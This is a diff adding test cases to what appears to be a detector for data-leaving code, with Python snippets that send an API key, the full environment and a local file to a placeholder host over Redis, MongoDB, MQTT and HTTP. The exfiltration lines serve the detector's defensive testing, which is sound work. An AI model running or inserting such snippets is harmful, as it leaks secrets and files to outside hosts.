@@ -12,6 +12,20 @@ describe("data leaves", () => {
     [`requests.post(url='${U}', json={'k': os.environ['A_KEY']})`, `send http ${U} [~{k: …} <$A_KEY>]`],
     [`requests.post('${U}', files={'f': open('/tmp/a', 'rb')})`, `send http ${U} [~{f: …} </tmp/a>]`],
     [`requests.put('${U}', data=open('/tmp/a').read())`, `send http ${U} [~… </tmp/a>]`],
+    // A client of any server, by whatever name its library gives to what sends.
+    [
+      `import redis\nr = redis.Redis(host='c.example')\nr.publish('q', open('/tmp/a').read())`,
+      `send http c.example [~… </tmp/a>]`,
+    ],
+    [
+      `import pymongo\npymongo.MongoClient('mongodb://c.example').db.items.insert_one({'d': os.getenv('A_KEY')})`,
+      `send http mongodb://c.example [~{d: …} <$A_KEY>]`,
+    ],
+    [
+      `import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect('c.example', 1883)\nc.publish('q', os.getenv('A_KEY'))`,
+      `send http c.example [~… <$A_KEY>]`,
+    ],
+    [`requests.get('${U}?e=' + json.dumps(dict(os.environ)))`, `send http ~${U}?e={…} <$*> [~${U}?e={…} <$*>]`],
     [`requests.request('POST', '${U}', data='a')`, `send http ${U} [a]`],
     [`requests.get('${U}', headers={'A': os.getenv('A_KEY')})`, `send http ${U} [~{A: …} <$A_KEY>]`],
     [`requests.get('${U}', params={'q': os.getenv('A_KEY')})`, `send http ${U} [~{q: …} <$A_KEY>]`],
